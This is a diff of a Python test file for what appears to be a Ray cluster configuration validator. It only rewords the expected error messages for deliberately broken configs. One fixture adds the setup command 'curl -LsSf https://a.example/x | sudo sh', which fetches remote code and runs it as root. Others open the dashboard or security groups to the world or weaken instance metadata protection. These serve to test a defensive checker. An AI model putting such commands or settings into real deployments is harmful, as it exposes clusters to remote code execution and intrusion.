@@ -148,12 +148,12 @@ MISTAKES: dict[str, tuple[str, Change, str]] = {
     "no head": (
         AWS,
         put("head_node_type", ...),
-        "head_node_type: missing; Ray would take an example's",
+        "head_node_type: missing; Ray would use an example's",
     ),
     "machine twice": (
         LOCAL,
         put("provider.worker_ips.1", "192.168.1.10"),
-        "provider.worker_ips: 192.168.1.10 is named twice",
+        "provider.worker_ips: 192.168.1.10 is listed twice",
     ),
     "other ray": (
         AWS,
@@ -185,22 +185,22 @@ MISTAKES: dict[str, tuple[str, Change, str]] = {
     "what a server sends": (
         GCP,
         lambda config: config["setup_commands"].append("curl -LsSf https://a.example/x | sudo sh"),
-        "setup_commands: 'curl -LsSf https://a.example/x | sudo sh': runs what comes",
+        "setup_commands: 'curl -LsSf https://a.example/x | sudo sh': runs an unchecked download",
     ),
     "another image each day": (
         AWS,
         put(f"{SPOT}.node_config.ImageId", "resolve:ssm:/aws/service/x/latest/ami-id"),
-        f"{SPOT}.node_config.ImageId='resolve:ssm:/aws/service/x/latest/ami-id': another image",
+        f"{SPOT}.node_config.ImageId='resolve:ssm:/aws/service/x/latest/ami-id': it changes",
     ),
     "open metadata": (
         AWS,
         put(f"{SPOT}.node_config.MetadataOptions", ...),
-        f"{SPOT}.node_config.MetadataOptions.HttpTokens=None: 'required' is needed",
+        f"{SPOT}.node_config.MetadataOptions.HttpTokens=None: must be 'required'",
     ),
     "old metadata": (
         AWS,
         put(f"{SPOT}.node_config.MetadataOptions.HttpTokens", "optional"),
-        f"{SPOT}.node_config.MetadataOptions.HttpTokens='optional': 'required' is needed",
+        f"{SPOT}.node_config.MetadataOptions.HttpTokens='optional': must be 'required'",
     ),
     "other python": (
         AWS,
@@ -220,7 +220,7 @@ MISTAKES: dict[str, tuple[str, Change, str]] = {
     "open dashboard": (
         LOCAL,
         replace(HEAD_START, "127.0.0.1", "0.0.0.0"),
-        f"{HEAD_START}: --dashboard-host=0.0.0.0: open to whoever reaches the head",
+        f"{HEAD_START}: --dashboard-host=0.0.0.0: open to anybody who can reach the head",
     ),
     "no token asked for": (
         LOCAL,
@@ -232,7 +232,7 @@ MISTAKES: dict[str, tuple[str, Change, str]] = {
         put("file_mounts", {"~/nalu-ray": "."}),
         "file_mounts: no ~/.ray/auth_token",
     ),
-    "Ray's own start": (GCP, put(HEAD_START, ...), f"{HEAD_START}: missing; Ray's own starts"),
+    "Ray's own start": (GCP, put(HEAD_START, ...), f"{HEAD_START}: missing; Ray's default command"),
     "group open to the world": (
         AWS,
         put(
@@ -244,12 +244,12 @@ MISTAKES: dict[str, tuple[str, Change, str]] = {
     "the launcher's group": (
         AWS,
         put(f"{SPOT}.node_config.SecurityGroupIds", ...),
-        f"{SPOT}.node_config.SecurityGroupIds: missing; the launcher's own group opens SSH to 0.0",
+        f"{SPOT}.node_config.SecurityGroupIds: missing; the launcher's default group opens SSH to",
     ),
     "no group's ID": (
         AWS,
         put(f"{SPOT}.node_config.SecurityGroupIds", ["nalu"]),
-        f"{SPOT}.node_config.SecurityGroupIds='nalu': not the ID of a group",
+        f"{SPOT}.node_config.SecurityGroupIds='nalu': not a group ID",
     ),
     "no instance type": (
         AWS,
@@ -738,7 +738,7 @@ def test_documented_checks_pass(monkeypatch: pytest.MonkeyPatch) -> None:
         ("max_workers: 8", "max_workers: 8\nmax_workers: 2", "'max_workers' stands twice"),
         ("max_workers: 8", "idle: off\nmax_workers: 8", "idle='off': Ray reads False; quote it"),
         ("max_workers: 8", "no: 1\nmax_workers: 8", "keys="),
-        ("max_workers: 8", "max_workers: 8\n5: 6", "5: a name must be a text; quote it"),
+        ("max_workers: 8", "max_workers: 8\n5: 6", "5: a name must be text; quote it"),
         ("max_workers: 8", "a: 2020-99-99\nmax_workers: 8", "Ray reads ValueError("),
     ],
 )
